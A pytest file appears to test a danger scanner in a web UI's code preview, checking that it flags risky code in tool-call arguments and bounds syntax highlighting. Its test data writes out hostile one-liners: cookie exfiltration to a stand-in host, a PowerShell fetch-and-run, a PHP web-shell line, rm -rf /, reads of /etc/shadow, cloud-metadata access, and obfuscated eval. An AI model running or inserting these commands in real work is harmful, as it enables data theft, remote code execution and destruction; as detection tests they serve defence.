"""Code: coloured within bounds, and searched whole for what reaches out of it."""

from collections.abc import Callable
from typing import Any

import pytest

from webui.preview.renderers.languages.highlighting import MOST_COLOURED, marks_of

Dangers = Callable[[str, dict[str, Any]], list[str]]

ATTACKS = [
    ("python", "import os\nos.system('id')", "Line 2: This starts another program: os.system"),
    ("python", "subprocess.run(['id'])", "This starts another program: subprocess"),
    ("python", "exec (x)", "This runs or loads code that is computed: exec("),
    ("python", "__import__('os')", "This runs or loads code that is computed: __import__"),
    ("python", "pickle.loads(x)", "This loads data that can run code: pickle"),
    ("python", "shutil.rmtree('/')", "This removes, moves or changes files or processes: shutil.rmtree"),
    ("python", "open('x', 'w')", "This writes files: open('x', 'w"),
    ("python", "open('/etc/shadow')", "Names /etc/shadow: accounts and keys of the machine."),
    ("python", "requests.get(u, verify=False)", "This does not check whom it talks to: verify=False"),
    ("python", "os.environ['X']", "This reads the environment or stored data, where secrets are kept: os.environ"),
    ("python", "x = 'http://169.254.169.254/'", "is the metadata service of a cloud"),
    ("python", "x = '" + "QUJD" * 90 + "'", "characters of packed text, which nobody can read here"),
    ("python", "x = 1" + " " * 99 + "; eval(y)", "After 99 blanks the line goes on."),
    ("python", "x = 1\n" * 9_000 + "eval(y)", "Line 9001: This runs or loads code that is computed: eval("),
    ("javascript", "require('child_process')", "This starts another program: child_process"),
    ("javascript", "new Function(x)()", "This runs or loads code that is computed: Function("),
    ("javascript", "fetch('//e.example?' + document.cookie)", "This reads the environment or stored data"),
    ("node", "fs.rmSync('/', {recursive: true})", "This removes, moves or changes files or processes: .rmSync("),
    ("powershell", "iex (iwr http://e.example)", "This starts another program: iex"),
    ("php", "<?php system($_GET['c']);", "This starts another program: system"),
    ("go", 'exec.Command("sh")', "This starts another program: exec.Command"),
    ("python", "my_eval(x); eval(x)\n" * 3_000, "There is more of eval from here on than is listed."),
    ("python", "x = 'http://10.0.0.1/'\n" * 3_000, "There is more of the same kind from here on than is listed."),
    ("klingon", "system('x')", "holds a word by which many languages start programs or run text: system"),
    ("bash", "rm -rf /", "removes files and folders with all in them, asking nothing"),
    ("sql", "DROP TABLE a", "Drops for good: DROP TABLE a"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("language", "code", "said"), ATTACKS, ids=[each[1][:30] for each in ATTACKS]
)
def test_each_attack_is_named(
    dangers: Dangers, language: str, code: str, said: str
) -> None:
    found = dangers("execute_code", {"code": code, "language": language})
    assert any(said in words for words in found), found


def test_usual_code_has_no_danger(dangers: Dangers) -> None:
    code = "def evaluate(rows):\n    # exec summary\n    return sum(row.total for row in rows)\n"
    assert dangers("python.run", {"code": code}) == []


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("run_python", {"code": "def f(): pass"}),
        ("x.run", {"code": "def f(): pass", "language": "Python 3.12"}),
        ("sandbox.write", {"code": "def f(): pass", "filename": "a.py"}),
    ],
)
def test_the_language_is_named_and_never_guessed(
    read: Any, tool: str, arguments: dict[str, Any]
) -> None:
    line = read(tool, arguments).blocks[0].lines[0]
    assert [token.kind for token in line.tokens][:3] == ["keyword", "plain", "name"]


def test_only_a_bounded_beginning_is_coloured() -> None:
    for unit in ("'", '"', "/*", "\n'''", "{", "a\n", "<<A\n", "r'"):
        for language in ("python", "javascript", "ruby", "perl", "php", "cpp"):
            marks = marks_of(unit * 60_000, language)
            assert all(mark.end <= MOST_COLOURED for mark in marks)


def test_a_language_without_a_lexer_is_shown_plainly_with_numbers(read: Any) -> None:
    block = read("execute_code", {"code": "class A {\n}\n", "language": "java"}).blocks[0]
    assert [line.number for line in block.lines] == [1, 2]
    assert all(token.kind == "plain" for line in block.lines for token in line.tokens)


@pytest.mark.parametrize(
    ("language", "code", "words"),
    [
        ("python", "ｅval('1')  # no evaluation", "runs or loads code that is computed"),
        ("javascript", '\\u0065val("x")', "runs or loads code that is computed"),
        ("javascript", '\\u{65}val("x")', "runs or loads code that is computed"),
    ],
)
def test_a_name_in_other_signs_is_read_as_the_language_reads_it(
    dangers: Dangers, language: str, code: str, words: str
) -> None:
    said = dangers("execute_code", {"code": code, "language": language})
    assert f"This {words}, written in other signs: eval(" in said


def test_letters_and_escapes_that_hide_no_name_are_no_danger(dangers: Dangers) -> None:
    for language, code in (
        ("python", "x = 'ﬁne é'"),
        ("javascript", 'x = "\\u00e9\\u0061"'),
    ):
        assert dangers("execute_code", {"code": code, "language": language}) == []
